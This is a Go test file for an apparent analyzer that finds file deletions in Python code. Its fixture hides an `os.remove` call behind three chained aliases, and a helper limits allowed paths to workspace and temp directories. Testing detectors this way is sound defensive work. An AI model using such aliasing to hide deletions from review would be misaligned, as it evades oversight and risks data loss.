func TestAliasesAreNamed(t *testing.T) {
	source := "import os as o\nx = o\ny = x.remove\ny('/a')\n"
	for _, op := range Read([]byte(source)).Operations {
		if op.Kind == report.FileDelete {
			if diff := cmp.Diff([]string{"y", "x", "o"}, op.Via); diff != "" {
				t.Errorf("via (-want +got):\n%s", diff)
			}
			return
		}
	}
	t.Error("the removal behind three aliases was not found")
}

func inWorkspace(path string) bool {
	for _, dir := range []string{"/workspace", "/tmp", "/inputs"} {
		if path == dir || strings.HasPrefix(path, dir+"/") {
			return true
		}
	}
	return false
}
